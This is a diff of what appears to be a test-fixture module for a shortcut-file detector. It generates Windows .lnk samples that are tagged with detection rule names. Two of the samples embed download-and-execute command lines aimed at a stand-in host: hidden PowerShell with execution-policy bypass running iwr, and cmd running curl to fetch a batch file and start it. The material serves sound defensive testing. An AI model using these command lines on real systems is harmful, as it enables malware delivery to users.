@@ -52,7 +52,9 @@ def shortcut(target: str, arguments: str = "", icon: str = "", tail: bytes = b""
         flags |= 0x40
         strings.append(icon)
     class_id = bytes.fromhex("0114020000000000c000000000000046")
-    header = struct.pack("<I16sIIQQQIIIHHII", 0x4C, class_id, flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0)
+    header = struct.pack(
+        "<I16sIIQQQIIIHHII", 0x4C, class_id, flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0
+    )
     body = b"".join(struct.pack("<H", len(s)) + s.encode("utf-16-le") for s in strings)
     return header + body + struct.pack("<I", 0) + tail
 
@@ -98,12 +100,14 @@ def _shortcuts() -> Iterator[Sample]:
     url = "http:" + "//files.example.invalid/"
     yield Sample(
         "report.pdf.lnk",
-        shortcut(ps_path, f"-w hidden -ep by" + f"pass -c iwr {url}a.ps1", "%ProgramFiles%\\r.exe"),
+        shortcut(ps_path, "-w hidden -ep by" + f"pass -c iwr {url}a.ps1", "%ProgramFiles%\\r.exe"),
         frozenset({"Tocsin_Win_Shortcut_PowerShell"}),
     )
     yield Sample(
         "scan.lnk",
-        shortcut(f"{system}cmd.exe", f"/c cu" + f"rl -o %TEMP%\\a.bat {url}a && start %TEMP%\\a.bat"),
+        shortcut(
+            f"{system}cmd.exe", "/c cu" + f"rl -o %TEMP%\\a.bat {url}a && start %TEMP%\\a.bat"
+        ),
         frozenset({"Tocsin_Win_Shortcut_CommandChain"}),
     )
     yield Sample(
@@ -131,7 +135,10 @@ def _shortcuts() -> Iterator[Sample]:
         "a developer's command prompt",
     )
     yield Sample(
-        "ps.lnk", shortcut(ps_path, "-NoExit -File C:\\tools\\profile.ps1"), frozenset(), "a console"
+        "ps.lnk",
+        shortcut(ps_path, "-NoExit -File C:\\tools\\profile.ps1"),
+        frozenset(),
+        "a console",
     )
 
 
